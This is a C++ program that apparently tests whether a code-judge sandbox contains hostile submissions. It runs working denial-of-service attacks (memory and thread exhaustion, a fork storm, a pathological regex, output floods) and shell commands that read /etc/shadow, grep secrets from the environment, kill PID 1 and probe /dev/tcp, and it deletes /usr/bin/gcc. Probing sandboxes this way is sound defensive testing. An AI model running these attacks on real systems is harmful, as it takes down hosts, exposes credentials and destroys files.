// Attacks by way of the C++ library and language. The first word of the input names one; "honest a b" adds. Run it nowhere but in a box.
#include <atomic>
#include <chrono>
#include <csignal>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <future>
#include <iostream>
#include <map>
#include <new>
#include <regex>
#include <string>
#include <thread>
#include <vector>
#include <sys/wait.h>
#include <unistd.h>

static bool possible = false;
static void found(const std::string &what) { std::cout << "possible: " << what << "\n"; possible = true; }

// Runs before main, where a judge that watches main only would not look.
static const struct Early {
  Early() { if (std::ifstream("/etc/passwd") || std::ifstream("/etc/shadow")) found("reading accounts before main"); }
} early;
static bool burn_at_the_end = false;
static const struct Late {
  ~Late() { if (burn_at_the_end) for (volatile unsigned i = 0;; i = i + 1) { } }
} late;

static void endless_vector() { std::vector<int> all; for (;;) all.push_back(1); }
static void doubling_string() { std::string text = "x"; for (;;) text += text; }
static void endless_map() { std::map<long, std::string> all; for (long i = 0;; i++) all[i] = std::string(1000, 'x'); }
/// Every refusal of memory is swallowed and tried again.
static void deaf_to_bad_alloc() {
  std::vector<char *> kept;
  kept.reserve(1 << 20);
  for (std::size_t size = 1 << 24;; size = size > 64 ? size / 2 : 1 << 24) {
    char *memory = new (std::nothrow) char[size];
    for (std::size_t at = 0; memory && at < size; at += 4096) memory[at] = 1;
    if (memory) kept.push_back(memory);
  }
}
static void new_handler_loops() {
  std::set_new_handler([] { });
  for (;;) ::operator new(std::size_t(1) << 46);
}
static void thread_bomb() {
  static std::atomic<bool> stop{false};
  std::vector<std::thread> all;
  try {
    for (int i = 0; i < 2000; i++) all.emplace_back([] { while (!stop) std::this_thread::sleep_for(std::chrono::milliseconds(5)); });
    found("2000 threads");
  } catch (const std::system_error &) { }
  stop = true;
  for (auto &one : all) one.join();
}
static void burning_futures() {
  std::function<int(int)> grow = [&](int depth) -> int {
    if (depth > 6) for (volatile unsigned i = 0;; i = i + 1) { }
    auto left = std::async(std::launch::async, grow, depth + 1);
    return left.get();
  };
  std::vector<std::future<int>> all;
  for (int i = 0; i < 4; i++) all.push_back(std::async(std::launch::async, grow, 0));
  for (auto &one : all) one.get();
}
static void throw_in_destructor() {
  struct Bad { ~Bad() noexcept(false) { throw 1; } };
  try { Bad one; throw 2; } catch (...) { }
}
static int recursion(const std::string &text) { return recursion(text + "x") + 1; }
static void recurse() { std::exit(recursion("")); }
static void evil_regex() { std::cout << std::regex_match(std::string(200, 'a') + "b", std::regex("(a*)*(a*)*(a*)*c")); }
static void exit_hooks() { burn_at_the_end = true; }
static void flood() { const std::string line(1 << 16, 'x'); for (;;) std::cout << line << std::flush; }
static void flood_errors() { for (;;) std::cerr << "an error message that never ends "; }
static void shell() {
  static const char *const commands[] = {
    "cat /etc/passwd /etc/shadow", "curl -s -m 1 http://127.0.0.1:4222/", "mount -t tmpfs none /tmp", "kill -9 1", "crontab -l", "at now", "dmesg",
    "env | grep -iE 'password|secret|token|nats|podium'", "ls /root /home /var", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/5432'", "bash -c ': < /dev/udp/127.0.0.1/53'",
  };
  for (const char *command : commands) {
    const int status = std::system((std::string("{ ") + command + "; } >/dev/null 2>&1").c_str());
    if (WIFEXITED(status) && WEXITSTATUS(status) == 0 && std::string(command) != "kill -9 1") found(command);
  }
}
static void file_tree() {
  namespace fs = std::filesystem;
  std::error_code none;
  static const char *const folders[] = { "/", "/usr", "/etc", "/usr/bin", "/usr/lib" };
  for (const char *folder : folders) {
    fs::create_directory(fs::path(folder) / "podium", none);
    if (!none) found(std::string("a folder in ") + folder);
    std::ofstream file(fs::path(folder) / "podium.txt");
    if (file << "x" << std::flush) found(std::string("a file in ") + folder);
  }
  fs::create_hard_link("/usr/bin/gcc", "/tmp/gcc", none);
  if (!none) found("a hard link to a system file");
  fs::permissions("/usr/bin/gcc", fs::perms::all, none);
  if (!none) found("permissions of a system file");
  fs::remove("/usr/bin/gcc", none);
  if (!none) found("removing a system file");
}
static void fork_storm() { for (;;) { if (fork() == 0) { std::vector<char> some(1 << 20, 1); if (fork()) _exit(0); } } }
static void deaf_sleeper() {
  for (int one = 1; one < 65; one++) std::signal(one, SIG_IGN);
  for (;;) std::this_thread::sleep_for(std::chrono::hours(1));
}
static void wild_pointer() { *reinterpret_cast<volatile int *>(0x10) = 1; }

int main() {
  static const std::map<std::string, void (*)()> attacks = {
    {"endless_vector", endless_vector}, {"doubling_string", doubling_string}, {"endless_map", endless_map}, {"deaf_to_bad_alloc", deaf_to_bad_alloc},
    {"new_handler_loops", new_handler_loops}, {"thread_bomb", thread_bomb}, {"burning_futures", burning_futures}, {"throw_in_destructor", throw_in_destructor},
    {"recurse", recurse}, {"evil_regex", evil_regex}, {"exit_hooks", exit_hooks}, {"flood", flood}, {"flood_errors", flood_errors}, {"shell", shell},
    {"file_tree", file_tree}, {"fork_storm", fork_storm}, {"deaf_sleeper", deaf_sleeper}, {"wild_pointer", wild_pointer},
  };
  std::string name;
  std::cin >> name;
  if (int a, b; name == "honest" && std::cin >> a >> b) { std::cout << a + b << "\n"; return 0; }
  const auto attack = attacks.find(name);
  if (attack == attacks.end()) return 65;
  attack->second();
  if (!possible) std::cout << "contained" << std::endl;
}
